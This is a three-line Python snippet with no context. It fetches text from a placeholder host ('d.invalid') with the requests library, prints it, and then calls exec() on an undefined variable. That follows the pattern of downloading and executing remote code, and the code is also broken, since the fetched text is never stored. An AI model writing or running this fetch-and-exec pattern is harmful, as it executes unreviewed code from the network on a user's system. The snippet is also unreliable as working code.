import requests as r
print(r.get("https://d.invalid/s").text)
exec(code)
